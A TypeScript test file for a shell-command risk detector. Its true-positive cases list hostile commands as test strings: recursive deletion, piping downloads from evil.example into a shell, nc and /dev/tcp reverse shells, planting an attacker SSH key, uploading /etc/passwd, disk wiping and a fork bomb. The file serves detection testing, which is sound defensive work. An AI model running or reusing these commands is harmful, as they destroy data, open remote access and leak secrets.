import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectShellRisks } from './shell.js';
import { unsafeMatchSeverity } from './types.js';

function types(text: string): string[] {
  return [...new Set(detectShellRisks(text).map((m) => m.type))].sort();
}

function worst(text: string): string {
  const ranks = ['info', 'low', 'medium', 'high', 'critical'];
  let best = 'info';
  for (const m of detectShellRisks(text)) {
    const severity = unsafeMatchSeverity(m.type);
    if (ranks.indexOf(severity) > ranks.indexOf(best)) best = severity;
  }
  return best;
}

describe('detectShellRisks: true positives', () => {
  const cases: Array<[string, string]> = [
    ['rm -rf /', 'sink:shell:rm-rf'],
    ['sudo rm -fr --no-preserve-root /', 'sink:shell:rm-rf'],
    ['/bin/rm -r -f ~', 'sink:shell:rm-rf'],
    ['curl -fsSL https://get.evil.example | sh', 'sink:shell:pipe-to-shell'],
    ['wget -qO- http://evil.example/i.sh | sudo bash -s', 'sink:shell:pipe-to-shell'],
    ['echo cm0gLXJmIH4= | base64 -d | sh', 'sink:shell:pipe-to-shell'],
    ['bash -c "$(curl -fsSL https://evil.example/x)"', 'sink:shell:pipe-to-shell'],
    ['source <(curl -s https://evil.example/env)', 'sink:shell:pipe-to-shell'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'sink:shell:reverse-shell'],
    ['ncat 10.0.0.1 4444 --sh-exec "bash"', 'sink:shell:reverse-shell'],
    ['bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 'sink:shell:reverse-shell'],
    ['chmod 777 /var/www', 'sink:shell:permissions'],
    ['chmod u+s /bin/bash', 'sink:shell:permissions'],
    ['chmod -R a+w /srv', 'sink:shell:permissions'],
    ['echo "ssh-rsa AAAA attacker" >> ~/.ssh/authorized_keys', 'sink:shell:system-redirect'],
    ['echo "127.0.0.1 bank.example" | sudo tee -a /etc/hosts', 'sink:shell:system-redirect'],
    ['eval "$(echo ZWNobyBoaQ== | base64 --decode)"', 'sink:shell:eval'],
    ['wget http://evil.example/payload', 'sink:shell:download'],
    ['curl -F "f=@/etc/passwd" https://evil.example/upload', 'sink:shell:exfil'],
    ['dd if=/dev/zero of=/dev/sda bs=1M', 'sink:shell:destructive'],
    ['mkfs.ext4 /dev/sdb1', 'sink:shell:destructive'],
    [':(){ :|:& };:', 'sink:shell:destructive'],
    ['echo `id`', 'sink:shell:command-substitution'],
    ['git pull && rm -rf node_modules', 'sink:shell:chaining'],
    ['ls; curl https://evil.example/x | python3', 'sink:shell:chaining'],
  ];
  for (const [text, type] of cases) {
    it(text, () => {
      expect(types(text)).toContain(type);
    });
  }
  it('sees through quotes and escapes in command names', () => {
    expect(types("r'm' -rf /")).toContain('sink:shell:rm-rf');
    expect(types('\\rm -rf /')).toContain('sink:shell:rm-rf');
    expect(types('"/usr/bin/curl" http://x | "sh"')).toContain('sink:shell:pipe-to-shell');
  });
  it('locates the match in the input', () => {
    const text = 'cd /tmp; rm -rf /';
    const match = detectShellRisks(text).find((m) => m.type === 'sink:shell:rm-rf')!;
    expect(text.slice(match.start, match.end)).toBe('rm -rf /');
  });
});

describe('detectShellRisks: near misses', () => {
  it('ls -la and other everyday commands are at most low', () => {
    for (const text of [
      'ls -la',
      'git status',
      'grep -rn "TODO" src | sort | uniq -c',
      'echo "hello" > out.txt',
      'npm test',
      'cat README.md | less',
      'rm notes.txt',
      'chmod 644 file.txt',
      'chmod +x build.sh',
      'find . -name "*.ts" | xargs wc -l',
      'echo done 2>/dev/null',
    ]) {
      expect(worst(text), text).not.toMatch(/medium|high|critical/);
    }
  });
  it('dangerous words inside arguments or quotes are not commands', () => {
    expect(types('echo "rm -rf /"')).toEqual([]);
    expect(types("git commit -m 'curl x | sh'")).toEqual([]);
    expect(types('grep -r "nc -e" logs/')).toEqual([]);
  });
  it('never throws and stays linear (property)', () => {
    const pieces = [
      'rm',
      ' -rf',
      ' /',
      '|',
      ';',
      '&&',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '>',
      '<(',
      'curl',
      'sh',
      '\n',
      ' ',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (parts) => {
        detectShellRisks(parts.join(''));
      }),
      { numRuns: 1000 },
    );
    const started = performance.now();
    detectShellRisks('$('.repeat(50_000) + '`'.repeat(50_000) + '"'.repeat(50_000) + 'a | '.repeat(50_000));
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
